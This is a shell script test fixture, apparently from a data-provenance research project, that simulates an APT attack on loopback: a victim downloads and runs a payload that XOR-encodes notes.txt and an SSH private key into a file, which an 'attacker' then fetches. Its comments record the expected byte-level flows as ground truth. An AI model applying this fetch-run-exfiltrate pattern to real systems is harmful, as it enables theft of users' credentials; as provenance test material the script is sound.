#!/bin/sh
# Attack scenario (Fixtures/apt), in the spirit of the MagProv paper's APT running example.
# Usage: sh attack.sh HTTPD FETCH     (in a directory that setup.sh prepared: home/, www/)
#
#   www/update      the payload program (Fixtures/apt/payload.c), published by the server
#   home/...        the user's files: notes.txt, .ssh/id_rsa, .bash_history, .config/app.conf
#
# 1. Start the loopback server on an ephemeral port for 2 requests; it writes the port to
#    `port` before `httpd` returns (no polling, no sleep).
# 2. The victim fetches http://127.0.0.1:PORT/update into tmp/update and runs it with
#    HOME=home: the payload stages notes.txt and .ssh/id_rsa, XORed, as www/loot.dat.
# 3. The attacker fetches http://127.0.0.1:PORT/loot.dat into exfil/loot.dat; that was the
#    server's second request, so it exits.
#
# True flows of the whole run (byte for byte, N = size of notes.txt, K = size of id_rsa):
#   www/loot.dat[0, N)       <- home/notes.txt[0, N)       (payload, XOR 0x5a)
#   www/loot.dat[N, N + K)   <- home/.ssh/id_rsa[0, K)     (payload, XOR with a 4-byte key)
#   socket (loot.dat answer) <- www/loot.dat, after the 19-byte status line (server)
#   exfil/loot.dat           <- that socket's body, = www/loot.dat (client)
#   tmp/update               <- the other socket's body <- www/update (the program fetched)
#   home/.bash_history: read and dropped; home/.config/app.conf: fstat'ed only: neither
#   reaches any output.
set -e
httpd=$1
fetch=$2
mkdir -p tmp exfil
"$httpd" www 2 port
port=$(cat port)
"$fetch" "http://127.0.0.1:$port/update" tmp/update
HOME="$PWD/home" ./tmp/update www/loot.dat
"$fetch" "http://127.0.0.1:$port/loot.dat" exfil/loot.dat
